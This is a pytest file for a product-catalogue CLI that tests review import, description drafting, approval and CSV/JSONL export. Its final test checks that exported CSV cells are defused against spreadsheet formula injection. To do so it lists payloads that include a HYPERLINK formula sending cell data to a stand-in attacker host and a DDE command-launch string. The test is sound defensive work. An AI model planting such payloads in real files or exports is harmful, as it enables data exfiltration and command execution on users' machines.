"""``chatcast import reviews``, ``report reviews`` and ``products describe/review/export`` through the CLI, offline."""

from __future__ import annotations

import asyncio
import csv
import json
from pathlib import Path

import pytest

from storage import db
from tests.fakes.cli import invoke
from tests.fakes.databases import truncate

PRODUCTS = """sku,name,category,price,currency,attr_material,attr_weight
RUN-1,Road Runner,running-shoes,120,EUR,mesh,280 g
SOX-2,Crew Sock,socks,12,EUR,cotton,
"""
REVIEWS = """handle,body,stars
RUN-1,"So comfortable on long runs, great quality",5
RUN-1,"Comfortable from the first day",4
RUN-1,"The quality is poor, the sole fell apart",1
GONE-3,Nice,5
"""


def shop(folder: Path) -> None:
    (folder / "products.csv").write_text(PRODUCTS)
    (folder / "reviews.csv").write_text(REVIEWS)
    assert invoke("db", "upgrade")[0] == 0
    assert invoke("import", "products", "products.csv")[0] == 0


def test_reviews_import_and_report(isolated: Path) -> None:
    shop(isolated)
    code, output = invoke("import", "reviews", "reviews.csv", "--column", "sku=handle", "--column", "text=body")
    assert code == 0 and "4 rows read, 3 imported, 1 bad" in output
    assert "reviews.csv row 4 (line 5), column 'handle': unknown product 'GONE-3'" in output
    code, output = invoke("import", "reviews", "reviews.csv", "--column", "text")
    assert code == 2 and "'text' is not FIELD=COLUMN" in output
    code, output = invoke("report", "reviews", "--json")
    [run] = json.loads(output)
    assert (run["sku"], run["reviews"], run["positive"], run["negative"]) == ("RUN-1", 3, 2, 1)
    assert run["praised"] == ["comfort"] and run["rating"] is None  # the stars column was not mapped
    code, output = invoke("report", "reviews")
    assert code == 0 and "Reviews per product" in output and "RUN-1" in output and "comfort" in output


def test_describe_review_approve_and_export(isolated: Path) -> None:
    shop(isolated)
    invoke("import", "reviews", "reviews.csv", "--column", "sku=handle", "--column", "text=body")
    code, output = invoke("products", "describe")
    assert code == 2 and "say which products: --sku S, --category C or --all" in output
    code, output = invoke("products", "describe", "--sku", "NOPE")
    assert code == 1 and "error: no active product 'NOPE'" in output and "Traceback" not in output
    code, output = invoke("products", "describe", "--all", "--language", "en", "--language", "de")
    assert code == 0 and "4 draft(s) written" in output
    assert "RUN-1 [en] template: Road Runner (mesh, 280 g), praised for its comfort" in output
    code, output = invoke("products", "review", "--language", "en")
    assert code == 0 and "RUN-1 [en] Road Runner: draft by template" in output and "current" in output
    assert "Details: material: mesh; weight: 280 g. Price: 120.00 EUR." in output
    assert invoke("products", "review", "--approve", "RUN-1", "--language", "en")[1].startswith("1 draft(s) decided")
    assert invoke("products", "review", "--reject", "SOX-2")[1].startswith("2 draft(s) decided")
    code, output = invoke("products", "review", "-i", stdin="a\n")  # RUN-1 in German, approved by hand
    assert code == 0 and "approve, reject or skip?" in output
    assert invoke("products", "review")[1].startswith("No drafts to review")
    code, output = invoke("products", "review", "--approve", "SOX-2")
    assert code == 1 and "error: no draft of SOX-2 to decide" in output
    code, output = invoke("products", "export", "--format", "csv", "--out", "out.csv")
    assert code == 0 and "Wrote 2 approved description(s) to out.csv" in output
    rows = list(csv.DictReader((isolated / "out.csv").read_text(encoding="utf-8").splitlines()))
    assert [(r["sku"], r["language"]) for r in rows] == [("RUN-1", "de"), ("RUN-1", "en")]
    assert rows[1]["short_description"] == "Road Runner (mesh, 280 g), praised for its comfort"
    assert rows[0]["description"].startswith("Road Runner aus unserem Sortiment running-shoes.")
    code, output = invoke("products", "export", "--format", "jsonl", "--out", "out.jsonl", "--language", "en")
    lines = [json.loads(x) for x in (isolated / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert code == 0 and [x["sku"] for x in lines] == ["RUN-1"] and lines[0]["source"] == "template"
    code, output = invoke("products", "export", "--format", "xml", "--out", "x")
    assert code == 2 and "'xml' is not csv or jsonl" in output


def test_a_new_draft_is_shown_beside_the_approved_text(isolated: Path) -> None:
    shop(isolated)
    invoke("products", "describe", "--sku", "SOX-2")
    invoke("products", "review", "--approve-all")
    (isolated / "products.csv").write_text(PRODUCTS.replace("SOX-2,Crew Sock,socks,12,", "SOX-2,Crew Sock,socks,10,"))
    invoke("import", "products", "products.csv")
    invoke("products", "describe", "--category", "socks")
    code, output = invoke("products", "review")
    assert code == 0 and "Price: 12.00 EUR" in output and "Price: 10.00 EUR" in output  # current, then the draft


def test_approve_all_with_a_reject_approves_all_but_the_rejected(isolated: Path) -> None:
    shop(isolated)
    assert invoke("products", "describe", "--all")[0] == 0
    code, output = invoke("products", "review", "--approve", "RUN-1", "--reject", "RUN-1")
    assert code != 0 and "RUN-1 is both --approve and --reject: choose one" in output
    code, output = invoke("products", "review", "--approve-all", "--reject", "SOX-2")
    assert code == 0 and output.startswith("2 draft(s) decided")
    code, output = invoke("products", "export", "--format", "jsonl", "--out", "out.jsonl")
    assert code == 0 and [json.loads(line)["sku"] for line in Path("out.jsonl").read_text().splitlines()] == ["RUN-1"]


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Sale")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


async def _emptied(url: str) -> None:
    async with db.database(url):
        if url.startswith("postgres"):
            await truncate()


def test_a_csv_export_runs_no_formula_in_a_spreadsheet(
    backend: str, isolated: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A product named like a formula is exported as text (a leading ', as OWASP recommends): a spreadsheet shows
    it and runs nothing; JSONL keeps it as it is (issue #26)."""
    asyncio.run(_emptied(backend))
    monkeypatch.setenv("CHATCAST_DATABASE_URL", backend)
    with (isolated / "products.csv").open("w", encoding="utf-8", newline="") as f:
        rows = [(f"F-{n}", name, "gadgets", 10, "EUR") for n, name in enumerate(FORMULAS)]
        csv.writer(f).writerows([("sku", "name", "category", "price", "currency"), *rows])
    assert invoke("import", "products", "products.csv")[0] == 0
    assert invoke("products", "describe", "--all", "--language", "en")[0] == 0
    assert invoke("products", "review", "--approve-all")[0] == 0
    code, output = invoke("products", "export", "--format", "csv", "--out", "out.csv")
    assert code == 0 and f"Wrote {len(FORMULAS)} approved description(s)" in output
    with (isolated / "out.csv").open(encoding="utf-8", newline="") as f:
        exported = list(csv.DictReader(f))
    assert sorted(r["name"] for r in exported) == sorted("'" + name for name in FORMULAS)
    cells = [cell for row in exported for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(r["description"].startswith("'=HYPERLINK(") for r in exported)  # the text begins with the name
    invoke("products", "export", "--format", "jsonl", "--out", "out.jsonl")
    lines = [json.loads(line) for line in (isolated / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(x["name"] for x in lines) == sorted(FORMULAS)  # data, not a spreadsheet: as it is
